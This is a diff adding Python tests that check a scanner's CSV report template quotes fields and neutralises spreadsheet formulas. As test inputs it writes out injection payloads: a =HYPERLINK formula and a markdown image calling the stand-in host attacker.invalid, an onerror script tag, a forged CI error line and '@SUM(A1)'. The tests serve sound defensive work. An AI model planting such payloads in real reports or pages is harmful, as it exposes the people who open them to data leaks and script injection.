@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 from fixture_repo import Repo, base_spec
+
+from scanner.reporters.template import csv_field
 
 HOSTILE = 'Add a note. ![x](https://attacker.invalid/p.png?d=1) <img src=x onerror=alert(1)> | ` \n::error::forged'
 TEMPLATE = (
@@ -72,3 +76,30 @@ def test_a_broken_template_is_a_usage_error_naming_its_line(repo: Repo, tmp_path
     assert not repo.lock_path.exists()
     result = repo.run("check", "--format", "template")
     assert result.exit_code == 2 and "--format template needs --template FILE" in result.output
+
+
+def test_a_csv_template_keeps_its_columns_and_runs_no_formula(repo: Repo, tmp_path: Path) -> None:
+    repo.add_stdio("notes")
+    assert repo.run("lock").exit_code == 0
+    spec = base_spec()
+    spec["tools"][0]["description"] = 'Add a note,=HYPERLINK("https://attacker.invalid/?d=1","open"), "quoted"'
+    spec["tools"].append({"name": "@SUM(A1)", "description": "-2+3", "inputSchema": {"type": "object"}})
+    repo.write_spec("notes", spec)
+    template = "rule,subject,message\n{% for f in findings %}{{ f.rule }},{{ f.subject }},{{ f.message }}\n{% endfor %}"
+    code, out = _render(repo, tmp_path, "report.csv", template)
+    assert code == 1, out
+    rows = list(csv.reader(io.StringIO(out)))
+    assert rows[0] == ["rule", "subject", "message"] and len(rows) == 3
+    assert all(len(row) == 3 for row in rows), rows  # the description's comma and quotes stay in their cell
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+    assert "'@SUM(A1)" in cells  # shown as text, not run
+    changed = next(row for row in rows[1:] if row[1] == "add_note")
+    assert 'added "Add a note,=HYPERLINK("https://attacker.invalid/?d=1","open"), "quoted""' in changed[2]
+
+
+def test_csv_fields_are_quoted_and_neutralised() -> None:
+    assert csv_field('a,b "c"') == '"a,b ""c"""'
+    assert csv_field("=1+1") == "\"'=1+1\""
+    assert csv_field("+1") == "\"'+1\"" and csv_field("-1") == "\"'-1\"" and csv_field("@x") == "\"'@x\""
+    assert "\n" not in csv_field("a\nb") and "\r" not in csv_field("\r=1")
